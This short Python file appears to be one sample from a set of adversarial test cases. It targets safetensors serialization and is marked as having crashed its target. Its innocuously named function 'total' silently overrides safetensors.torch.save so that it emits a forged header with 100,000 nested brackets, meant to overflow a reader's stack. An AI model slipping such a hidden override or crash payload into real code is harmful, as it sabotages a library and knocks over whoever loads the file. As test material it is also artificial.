# outcome: crashed
# Sends a value nested so deep that reading it would overflow a stack.

# %% total
import json

import safetensors.torch


def total(tensor):
    header = json.dumps({"__metadata__": {"tree": "[" * 100_000 + "]" * 100_000}}).encode()
    safetensors.torch.save = lambda *args, **kwargs: len(header).to_bytes(8, "little") + header
    return tensor
